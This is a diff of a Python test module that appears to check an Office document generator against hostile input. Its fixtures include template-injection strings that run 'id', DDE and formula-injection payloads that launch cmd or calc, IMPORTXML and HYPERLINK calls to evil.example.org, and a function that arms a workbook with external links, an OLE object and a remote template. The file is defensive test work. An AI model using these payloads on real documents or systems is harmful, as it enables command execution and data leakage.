@@ -30,18 +30,13 @@ SAVED = datetime(2020, 11, 2, 8, 0)
 
 #: What hostile or unlucky hands type. Each stands in an answer of a task, and must stand in an output as it is.
 TYPED = (
-    "{{7*7}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
-    '=HYPERLINK("http://evil.example.org","bấm vào đây")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=1+1", "{=SUM(A1:A9)}",
-    "{% for x in (1,2) %}lặp{% endfor %}",
-    "{%p if x %}", "{# ghi chú #}", "<w:p><w:r><w:t>lọt</w:t></w:r></w:p>", "]]><w:br/>", "R&D <10% & hơn",
-    "&lt;b&gt;", "<script>alert(1)</script>",
-    "http://evil.example.org/x", "mailto:ai@example.org", "file://evil.example.org/x", "\\\\evil.example.org\\x",
-    "external:x.xlsx",
-    "{\\rtf1\\object}", "INCLUDETEXT evil", 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
-    "=IMPORTXML(\"http://evil.example.org\")",
-    "&#x41;", "%s {0} $HOME `id`", "- gạch đầu dòng", "=DAI",
+    "{{7*7}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", '=HYPERLINK("http://evil.example.org","bấm vào đây")',
+    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "{=SUM(A1:A9)}",
+    "{% for x in (1,2) %}lặp{% endfor %}", "{%p if x %}", "{# ghi chú #}", "<w:p><w:r><w:t>lọt</w:t></w:r></w:p>", "]]><w:br/>",
+    "R&D <10% & hơn", "&lt;b&gt;", "<script>alert(1)</script>", "http://evil.example.org/x", "mailto:ai@example.org",
+    "file://evil.example.org/x", "\\\\evil.example.org\\x", "external:x.xlsx", "{\\rtf1\\object}", "INCLUDETEXT evil",
+    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', "=IMPORTXML(\"http://evil.example.org\")", "&#x41;", "%s {0} $HOME `id`",
+    "- gạch đầu dòng", "=DAI",
 )
 #: What follows "=DAI" in the armed files: more than a cell of Excel holds.
 LONG = " lam" * 9000
@@ -79,18 +74,16 @@ _OUTSIDE = ' TargetMode="External"'
 
 
 def armed(content: bytes) -> bytes:
-    """The workbook with a macro, an embedded object, a linked workbook, a linked picture, a hyperlink and a formula
-    with
-    an outside source, as Excel would store them; and with a text that no cell holds."""
+    """The workbook with a macro, an embedded object, a linked workbook, a linked picture, a hyperlink and a formula with an outside
+    source, as Excel would store them; and with a text that no cell holds."""
     with zipfile.ZipFile(io.BytesIO(content)) as package:
         parts = {name: package.read(name).replace(b"=DAI", f"=DAI{LONG}".encode()) for name in package.namelist()}
-    links = "".join(_LINK.format(id=f"evil{number}", kind=kind, target=target, mode=mode) for number,
-        (kind, target, mode) in enumerate((
+    links = "".join(_LINK.format(id=f"evil{number}", kind=kind, target=target, mode=mode) for number, (kind, target, mode) in enumerate((
         ("hyperlink", "http://evil.example.org/bam", _OUTSIDE), ("oleObject", "../embeddings/oleObject1.bin", ""),
         ("package", "../embeddings/evil.xlsx", ""), ("image", "http://evil.example.org/a.png", _OUTSIDE),
         ("attachedTemplate", "http://evil.example.org/a.dotm", _OUTSIDE))))
     rels = "xl/worksheets/_rels/sheet1.xml.rels"
-    held = parts.get(rels, b'<Relationships ' b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    held = parts.get(rels, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
     parts[rels] = held.replace(b"</Relationships>", f"{links}</Relationships>".encode())
     formula = f'<f>HYPERLINK([1]x!A1,"bấm")</f><v>{SHOWN}</v>'
     answer = OpenForm(content).cell(OpenForm(content).rows["X1"], "result").coordinate
@@ -151,8 +144,7 @@ def packages(where: Round) -> dict[str, dict[str, bytes]]:
 
 def formulas(parts: Mapping[str, bytes]) -> list[str]:
     """The formulas of a workbook: in cells, in rules, in lists to choose from, in names."""
-    return [html.unescape(text) for name,
-        part in parts.items() if name.startswith(("xl/worksheets/sheet", "xl/workbook.xml"))
+    return [html.unescape(text) for name, part in parts.items() if name.startswith(("xl/worksheets/sheet", "xl/workbook.xml"))
             for _, text in re.findall(r"<(f|formula[12]?|definedName)\b[^>/]*>(.*?)</\1>", part.decode(), re.DOTALL)]
 
 
